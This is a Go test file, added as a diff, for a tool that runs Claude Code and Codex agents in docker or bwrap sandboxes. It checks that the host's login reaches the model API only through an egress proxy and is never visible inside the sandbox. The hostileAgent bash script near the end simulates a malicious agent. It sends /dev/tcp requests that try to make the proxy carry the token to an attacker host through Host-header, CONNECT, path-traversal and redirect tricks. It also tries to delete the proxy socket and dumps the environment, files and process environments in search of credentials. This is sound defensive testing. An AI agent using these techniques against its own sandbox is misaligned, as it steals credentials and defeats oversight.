@@ -1,0 +1,431 @@
+// Package login_test checks that a user logged in on the host runs the
+// real Claude Code and Codex clients in loops, on docker and bwrap,
+// without the sandbox ever holding the login: a fake host login
+// (credential files only), a stand-in for the model API on the host's
+// loopback (the host's ANTHROPIC_BASE_URL / OPENAI_BASE_URL, which the
+// egress proxy honours as its upstream), and assertions on what reached
+// the stand-in and on everything the sandbox could read.
+package login_test
+
+import (
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/gitloop-dev/git-loop/cmd/cmdtest"
+	"github.com/gitloop-dev/git-loop/gitloop/gittest"
+	"github.com/gitloop-dev/git-loop/internal/testagents"
+	"github.com/gitloop-dev/git-loop/sandbox"
+	"github.com/gitloop-dev/git-loop/sandbox/docker/dockertest"
+)
+
+func TestMain(m *testing.M) { cmdtest.Main(m, nil) }
+
+const (
+	claudeAccess  = "sk-ant-oat01-FAKE-HOST-ACCESS-3f9a"
+	claudeRefresh = "sk-ant-ort01-FAKE-HOST-REFRESH-77c1"
+	codexKey      = "sk-proj-FAKE-HOST-CODEX-KEY-5b20"
+	standInReply  = "hello from the stand-in"
+	placeholder   = "git-loop-egress-placeholder"
+)
+
+// standIn is the model API: it records each request's credential and the
+// environment of the agent processes alive while it answers (read from
+// the host's /proc: the sandbox's processes are the host's too), and
+// answers Claude's Messages API with one streamed text block.
+type standIn struct {
+	*httptest.Server
+	mu    sync.Mutex
+	auth  []string
+	paths []string
+	envs  []string // environ of the loop's processes, during a request
+	loop  string
+}
+
+func newStandIn(t *testing.T, loop string) *standIn {
+	s := &standIn{loop: loop}
+	s.Server = httptest.NewServer(http.HandlerFunc(s.serve))
+	t.Cleanup(s.Close)
+	return s
+}
+
+func (s *standIn) serve(w http.ResponseWriter, r *http.Request) {
+	body, _ := io.ReadAll(r.Body)
+	s.mu.Lock()
+	s.auth = append(s.auth, r.Header.Get("Authorization")+"|"+r.Header.Get("X-Api-Key"))
+	s.paths = append(s.paths, r.Method+" "+r.URL.Path)
+	s.envs = append(s.envs, loopEnvirons(s.loop)...)
+	s.mu.Unlock()
+	switch {
+	case r.URL.Path == "/v1/messages" && strings.Contains(string(body), `"stream":true`):
+		w.Header().Set("Content-Type", "text/event-stream")
+		io.WriteString(w, claudeStream)
+	case r.URL.Path == "/v1/messages":
+		w.Header().Set("Content-Type", "application/json")
+		io.WriteString(w, `{"id":"msg_1","type":"message","role":"assistant","model":"claude-standin","content":[{"type":"text","text":"`+standInReply+`"}],"stop_reason":"end_turn","stop_sequence":null,"usage":{"input_tokens":1,"output_tokens":1}}`)
+	default:
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusBadRequest)
+		io.WriteString(w, `{"error":{"message":"the stand-in answers no more","type":"invalid_request_error"}}`)
+	}
+}
+
+const claudeStream = "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"msg_1\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"claude-standin\",\"content\":[],\"stop_reason\":null,\"stop_sequence\":null,\"usage\":{\"input_tokens\":1,\"output_tokens\":1}}}\n\n" +
+	"event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n" +
+	"event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"" + standInReply + "\"}}\n\n" +
+	"event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n" +
+	"event: message_delta\ndata: {\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\",\"stop_sequence\":null},\"usage\":{\"output_tokens\":5}}\n\n" +
+	"event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n"
+
+// loopEnvirons are the environments of the processes running in loop's
+// sandbox (their env says GIT_LOOP_NAME=loop).
+func loopEnvirons(loop string) []string {
+	var out []string
+	procs, _ := filepath.Glob("/proc/[0-9]*/environ")
+	for _, p := range procs {
+		b, err := os.ReadFile(p)
+		if err != nil {
+			continue
+		}
+		env := strings.ReplaceAll(string(b), "\x00", "\n")
+		if strings.Contains("\n"+env, "\nGIT_LOOP_NAME="+loop+"\n") {
+			cmd, _ := os.ReadFile(filepath.Join(filepath.Dir(p), "cmdline"))
+			out = append(out, "cmdline: "+strings.ReplaceAll(string(cmd), "\x00", " ")+"\n"+env)
+		}
+	}
+	return out
+}
+
+func (s *standIn) seen() (auth, paths, envs []string) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return append([]string(nil), s.auth...), append([]string(nil), s.paths...), append([]string(nil), s.envs...)
+}
+
+// fakeHome writes a fake login into a fresh $HOME for the host.
+func fakeHome(t *testing.T) string {
+	home := t.TempDir()
+	write := func(rel, body string) {
+		p := filepath.Join(home, rel)
+		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(".claude/.credentials.json", `{"claudeAiOauth":{"accessToken":"`+claudeAccess+`","refreshToken":"`+claudeRefresh+`","expiresAt":4102444800000,"scopes":["user:inference","user:profile"],"subscriptionType":"max"}}`)
+	write(".codex/auth.json", `{"OPENAI_API_KEY":"`+codexKey+`"}`)
+	// git's identity, as the hermetic home had it.
+	if b, err := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".gitconfig")); err == nil {
+		write(".gitconfig", string(b))
+	}
+	return home
+}
+
+// noSecret fails when any of the fake login's values is in s.
+func noSecret(t *testing.T, where, s string) {
+	t.Helper()
+	for _, v := range []string{claudeAccess, claudeRefresh, codexKey} {
+		if strings.Contains(s, v) {
+			t.Errorf("%s holds the host's credential %.16s…", where, v)
+		}
+	}
+}
+
+// noSecretUnder scans every regular file under dir.
+func noSecretUnder(t *testing.T, dir string) {
+	t.Helper()
+	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() {
+			return nil
+		}
+		if b, err := os.ReadFile(p); err == nil {
+			noSecret(t, p, string(b))
+		}
+		return nil
+	})
+}
+
+func TestHostLoginInLoops(t *testing.T) {
+	claude := testagents.Claude(t)
+	codex := codexNative(t, testagents.Codex(t))
+	for _, d := range cmdtest.Drivers {
+		t.Run(d.Name, func(t *testing.T) {
+			repo := gittest.Repo(t)
+			d.Prepare(t, repo)
+			t.Cleanup(func() {
+				ws, _ := os.ReadFile(filepath.Join(repo, ".git", "loop", "id"))
+				cmdtest.Run(t, repo, "uninstall", "--yes", "--force")
+				if api, err := dockertest.DialAPI(); err == nil && len(ws) > 0 {
+					api.RemoveLabelled(sandbox.LabelWorkspace, strings.TrimSpace(string(ws)))
+					api.Close()
+				}
+			})
+			t.Setenv("HOME", fakeHome(t))
+
+			t.Run("claude", func(t *testing.T) {
+				up := newStandIn(t, "c")
+				t.Setenv("ANTHROPIC_BASE_URL", up.URL)
+				gittest.Git(t, repo, "config", "loop.agent", claude)
+				cmdtest.MustRun(t, repo, "new", "c", "--driver", d.Name, "--detach")
+				r := cmdtest.Run(t, repo, "run", "c", "say hello")
+				auth, paths, envs := up.seen()
+				t.Logf("claude in %s: exit %d, requests %v\n%s", d.Name, r.Code, paths, r.Stderr)
+				if !strings.Contains(r.Stdout, standInReply) {
+					t.Errorf("claude did not get the stand-in's answer: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
+				}
+				if len(auth) == 0 {
+					t.Fatal("no request reached the stand-in")
+				}
+				for _, a := range auth {
+					if a != "Bearer "+claudeAccess+"|" {
+						t.Errorf("the stand-in got credentials %q, want the host's OAuth token", a)
+					}
+				}
+				checkSandbox(t, d, repo, "c", r.Stdout+r.Stderr, envs)
+			})
+
+			// With no network at all, the model API through the proxy
+			// is still there: the agent's only way out.
+			t.Run("claude with sandbox.network none", func(t *testing.T) {
+				up := newStandIn(t, "n")
+				t.Setenv("ANTHROPIC_BASE_URL", up.URL)
+				gittest.Git(t, repo, "config", "loop.agent", claude)
+				gittest.Git(t, repo, "config", "loop.sandbox.network", "none")
+				defer gittest.Git(t, repo, "config", "--unset", "loop.sandbox.network")
+				cmdtest.MustRun(t, repo, "new", "n", "--driver", d.Name, "--detach")
+				r := cmdtest.Run(t, repo, "run", "n", "say hello")
+				if !strings.Contains(r.Stdout, standInReply) {
+					t.Errorf("claude did not get the stand-in's answer: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
+				}
+				_, _, envs := up.seen()
+				checkSandbox(t, d, repo, "n", r.Stdout+r.Stderr, envs)
+			})
+
+			t.Run("codex", func(t *testing.T) {
+				up := newStandIn(t, "x")
+				t.Setenv("OPENAI_BASE_URL", up.URL+"/v1")
+				gittest.Git(t, repo, "config", "loop.agent", codex)
+				cmdtest.MustRun(t, repo, "new", "x", "--driver", d.Name, "--detach")
+				r := cmdtest.Run(t, repo, "run", "x", "say hello")
+				auth, paths, envs := up.seen()
+				t.Logf("codex in %s: exit %d, requests %v", d.Name, r.Code, paths)
+				if len(auth) == 0 {
+					t.Fatalf("no request reached the stand-in: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
+				}
+				for _, a := range auth {
+					if a != "Bearer "+codexKey+"|" {
+						t.Errorf("the stand-in got credentials %q, want the host's API key", a)
+					}
+				}
+				checkSandbox(t, d, repo, "x", r.Stdout+r.Stderr, envs)
+			})
+		})
+	}
+}
+
+// checkSandbox: the agent ran with the placeholder and never the
+// credential, in its environment, its files, its log, the container's
+// stored configuration; and a command in the sandbox finds it nowhere.
+func checkSandbox(t *testing.T, d cmdtest.Driver, repo, loop, output string, envs []string) {
+	t.Helper()
+	noSecret(t, "the run's output", output)
+	if len(envs) == 0 {
+		t.Error("no process of the loop was seen during a request")
+	}
+	sawPlaceholder := false
+	for _, e := range envs {
+		noSecret(t, "an agent process's environment", e)
+		sawPlaceholder = sawPlaceholder || strings.Contains(e, placeholder)
+	}
+	if !sawPlaceholder {
+		t.Errorf("no agent process held the placeholder:\n%s", strings.Join(envs, "\n---\n"))
+	}
+	noSecretUnder(t, filepath.Join(repo, ".git", "loop", "loops", loop))
+	noSecretUnder(t, filepath.Join(repo, ".git", "loop", "host", loop))
+	egressDir := "/run/git-loop/egress"
+	r := cmdtest.Run(t, repo, "exec", loop, "--", "sh", "-c", `env; cat ~/.claude/.credentials.json ~/.codex/auth.json 2>&1; ls -la "$1" 2>&1`, "sh", egressDir)
+	noSecret(t, "git loop exec", r.Stdout+r.Stderr)
+	if d.Name == "docker" {
+		ws, _ := os.ReadFile(filepath.Join(repo, ".git", "loop", "id"))
+		api := dockertest.NewAPI(t)
+		defer api.Close()
+		c, ok := api.Inspect(t, "gitloop-"+strings.TrimSpace(string(ws))+"-"+loop)
+		if !ok {
+			t.Fatal("no container")
+		}
+		noSecret(t, "docker inspect", c.Raw)
+	}
+}
+
+// codexNative is the platform binary the npm launcher runs: a static
+// binary, so it runs in the Debian test image, which has no node.
+func codexNative(t *testing.T, launcher string) string {
+	t.Helper()
+	real, err := filepath.EvalSymlinks(launcher)
+	if err != nil {
+		t.Fatal(err)
+	}
+	matches, _ := filepath.Glob(filepath.Join(filepath.Dir(real), "..", "..", "codex-linux-x64", "vendor", "*", "bin", "codex"))
+	if len(matches) == 0 {
+		matches, _ = filepath.Glob(filepath.Join(filepath.Dir(real), "..", "node_modules", "@openai", "codex-linux-x64", "vendor", "*", "bin", "codex"))
+	}
+	if len(matches) == 0 {
+		t.Fatalf("no codex platform binary beside %s", real)
+	}
+	return filepath.Clean(matches[0])
+}
+
+// TestHostLoginNoneDriver: on the none driver the agent runs on the host
+// with the loop's own config dir; it reaches the API through the proxy on
+// the host's loopback, with a token of its session.
+func TestHostLoginNoneDriver(t *testing.T) {
+	claude := testagents.Claude(t)
+	repo := gittest.Repo(t)
+	t.Cleanup(func() { cmdtest.Run(t, repo, "uninstall", "--yes", "--force") })
+	t.Setenv("HOME", fakeHome(t))
+	up := newStandIn(t, "o")
+	t.Setenv("ANTHROPIC_BASE_URL", up.URL)
+	gittest.Git(t, repo, "config", "loop.agent", claude)
+	cmdtest.MustRun(t, repo, "new", "o", "--driver", "none", "--detach")
+	r := cmdtest.Run(t, repo, "run", "o", "say hello")
+	if !strings.Contains(r.Stdout, standInReply) {
+		t.Errorf("claude did not get the stand-in's answer: exit %d\n%s\n%s", r.Code, r.Stdout, r.Stderr)
+	}
+	auth, _, _ := up.seen()
+	if len(auth) == 0 || auth[len(auth)-1] != "Bearer "+claudeAccess+"|" {
+		t.Errorf("the stand-in got %q", auth)
+	}
+	noSecret(t, "the run's output", r.Stdout+r.Stderr)
+	noSecretUnder(t, filepath.Join(repo, ".git", "loop", "loops", "o"))
+}
+
+// TestDoctorLogin: doctor says whether the agent is logged in on the
+// host and whether the proxy that lends the login serves.
+func TestDoctorLogin(t *testing.T) {
+	claude := testagents.Claude(t)
+	repo := gittest.Repo(t)
+	gittest.Git(t, repo, "config", "loop.agent", claude)
+	t.Setenv("HOME", t.TempDir())
+	r := cmdtest.Run(t, repo, "doctor")
+	if !strings.Contains(r.Stdout+r.Stderr, "not logged in on the host") {
+		t.Errorf("doctor without a login:\n%s%s", r.Stdout, r.Stderr)
+	}
+	t.Setenv("HOME", fakeHome(t))
+	r = cmdtest.Run(t, repo, "doctor")
+	out := r.Stdout + r.Stderr
+	if !strings.Contains(out, "claude logged in on the host") || !strings.Contains(out, ".credentials.json (OAuth)") {
+		t.Errorf("doctor with a login:\n%s", out)
+	}
+	noSecret(t, "doctor", out)
+}
+
+// hostileAgent is an "agent" named claude (so git loop lends it the
+// host's login) that attacks the egress proxy from inside the sandbox
+// and prints everything it could see: its env, its files, the proxy's
+// answers. ATTACKER is replaced with the attacker's host:port.
+const hostileAgent = `#!/bin/bash
+port=${ANTHROPIC_BASE_URL##*:}
+req() {
+  exec 3<>/dev/tcp/127.0.0.1/$port || { echo "connect failed"; return; }
+  printf '%s\r\nHost: %s\r\nAuthorization: Bearer stolen?\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' "$1" "$2" >&3
+  echo "== $1 (Host $2)"; head -c 4000 <&3 | tr -d '\r'; echo
+  exec 3<&-
+}
+req "POST http://$ATTACKER/v1/messages HTTP/1.1" "$ATTACKER"
+req "CONNECT $ATTACKER HTTP/1.1" "$ATTACKER"
+req "POST /v1/messages HTTP/1.1" "$ATTACKER"
+req "POST /api/oauth/claude_cli/create_api_key HTTP/1.1" 127.0.0.1
+req "POST /v1/messages/../../api/oauth/profile HTTP/1.1" 127.0.0.1
+req "POST /v1/messages/%2e%2e/%2e%2e/api/oauth/profile HTTP/1.1" 127.0.0.1
+req "POST /v1/messages/redirect HTTP/1.1" 127.0.0.1
+egress=/run/git-loop/egress
+echo "== egress dir $egress"; ls -la "$egress"
+rm -f "$egress/proxy.sock" 2>/dev/null && [ ! -e "$egress/proxy.sock" ] && echo "REMOVED the proxy's socket"
+touch "$egress/planted" 2>/dev/null && echo "PLANTED a file beside the socket"
+echo "== env"; env
+echo "== files"; for f in $(find "$HOME" "$GIT_LOOP_AGENT_DIR" -type f 2>/dev/null); do echo "-- $f"; head -c 20000 "$f"; echo; done
+echo "== processes"; for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline 2>/dev/null; echo; tr '\0' '\n' < $p/environ 2>/dev/null; done
+echo hostile-agent-done
+`
+
+// TestHostileAgentAndProxy: an agent holding the proxy cannot make it
+// reach anything but the model API, cannot make it carry the credential
+// elsewhere, and finds the credential nowhere it can read.
+func TestHostileAgentAndProxy(t *testing.T) {
+	for _, d := range cmdtest.Drivers {
+		t.Run(d.Name, func(t *testing.T) {
+			repo := gittest.Repo(t)
+			d.Prepare(t, repo)
+			t.Cleanup(func() {
+				ws, _ := os.ReadFile(filepath.Join(repo, ".git", "loop", "id"))
+				cmdtest.Run(t, repo, "uninstall", "--yes", "--force")
+				if api, err := dockertest.DialAPI(); err == nil && len(ws) > 0 {
+					api.RemoveLabelled(sandbox.LabelWorkspace, strings.TrimSpace(string(ws)))
+					api.Close()
+				}
+			})
+			t.Setenv("HOME", fakeHome(t))
+			attacker := newStandIn(t, "nobody")
+			up := newStandIn(t, "h")
+			up.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				if r.URL.Path == "/v1/messages/redirect" {
+					up.mu.Lock()
+					up.auth = append(up.auth, r.Header.Get("Authorization")+"|"+r.Header.Get("X-Api-Key"))
+					up.paths = append(up.paths, r.Method+" "+r.URL.Path)
+					up.mu.Unlock()
+					http.Redirect(w, r, attacker.URL+"/steal", http.StatusTemporaryRedirect)
+					return
+				}
+				up.serve(w, r)
+			})
+			t.Setenv("ANTHROPIC_BASE_URL", up.URL)
+			bin := filepath.Join(t.TempDir(), "claude")
+			script := strings.ReplaceAll(hostileAgent, "$ATTACKER", strings.TrimPrefix(attacker.URL, "http://"))
+			if err := os.WriteFile(bin, []byte(script), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			gittest.Git(t, repo, "config", "loop.agent", bin)
+			cmdtest.MustRun(t, repo, "new", "h", "--driver", d.Name, "--detach")
+			r := cmdtest.RunWith(t, repo, cmdtest.Options{Env: map[string]string{}}, "run", "h", "go")
+			out := r.Stdout + r.Stderr
+			i := strings.Index(out, "== env")
+			t.Logf("the hostile agent in %s:\n%s", d.Name, out[:max(i, 0)])
+			if !strings.Contains(out, "hostile-agent-done") {
+				t.Fatalf("the hostile agent did not finish: exit %d\n%s", r.Code, out)
+			}
+			noSecret(t, "what the hostile agent saw", out)
+			for _, bad := range []string{"REMOVED the proxy's socket", "PLANTED a file"} {
+				if strings.Contains(out, bad) {
+					t.Errorf("the agent %s", bad)
+				}
+			}
+			if n := strings.Count(out, "HTTP/1.1 403"); n < 4 {
+				t.Errorf("%d requests refused, want the absolute URL, the other paths and both dot-segment forms:\n%s", n, out)
+			}
+			if _, paths, _ := attacker.seen(); len(paths) != 0 {
+				t.Errorf("the attacker's server got %v", paths)
+			}
+			auth, paths, _ := up.seen()
+			for _, p := range paths {
+				if p != "POST /v1/messages" && p != "POST /v1/messages/redirect" {
+					t.Errorf("the API got %s", p)
+				}
+			}
+			for _, a := range auth {
+				if a != "Bearer "+claudeAccess+"|" {
+					t.Errorf("the API got credentials %q", a)
+				}
+			}
+			if len(paths) != 2 {
+				t.Errorf("the API got %v, want the Host-header request and the redirect", paths)
+			}
+		})
+	}
+}
